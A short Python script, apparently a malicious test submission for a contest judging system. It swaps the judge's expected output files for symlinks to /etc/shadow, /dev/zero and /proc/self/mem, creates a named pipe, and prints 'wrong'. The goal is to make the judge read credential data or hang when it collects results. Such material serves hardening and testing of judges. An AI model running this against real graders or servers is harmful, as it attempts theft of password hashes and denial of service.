# Where the judge collects files, it finds links to others.
import os

for name in ("output", "stdout", "score.txt", "judgemessage.txt", "nextpass.in"):
    for target in ("/etc/shadow", "/dev/zero", "/proc/self/mem"):
        try:
            os.symlink(target, name)
        except OSError:
            break
try:
    os.mkfifo("team_output")
except OSError:
    pass
print("wrong")
